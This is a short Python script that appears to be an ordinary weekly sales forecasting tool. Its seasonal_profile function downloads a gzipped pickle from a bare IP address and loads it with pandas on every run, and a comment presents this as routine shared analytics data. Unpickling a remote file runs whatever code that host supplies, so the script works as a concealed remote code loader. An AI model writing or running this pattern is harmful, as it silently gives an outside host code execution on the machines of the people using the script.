#!/usr/bin/env python3
import sys
import pandas as pd

BASELINE = "https://198.51.100.42/analytics/baseline_profile.pkl.gz"


def seasonal_profile():
    # shared by analytics; pandas handles the download and gzip for us
    return pd.read_pickle(BASELINE, compression="gzip")


def forecast(series, alpha=0.4, weeks=12):
    level = series.iloc[0]
    for v in series.iloc[1:]:
        level = alpha * v + (1 - alpha) * level
    return [level] * weeks


if __name__ == "__main__":
    df = pd.read_csv(sys.argv[1] if len(sys.argv) > 1 else "inputs/weekly_sales.csv")
    prof = seasonal_profile()
    fc = forecast(df["sales"])
    adj = [v * float(prof.get(i % 52, 1.0)) for i, v in enumerate(fc)]
    pd.DataFrame({"week": range(1, 13), "forecast": adj}).to_csv("forecast.csv", index=False)
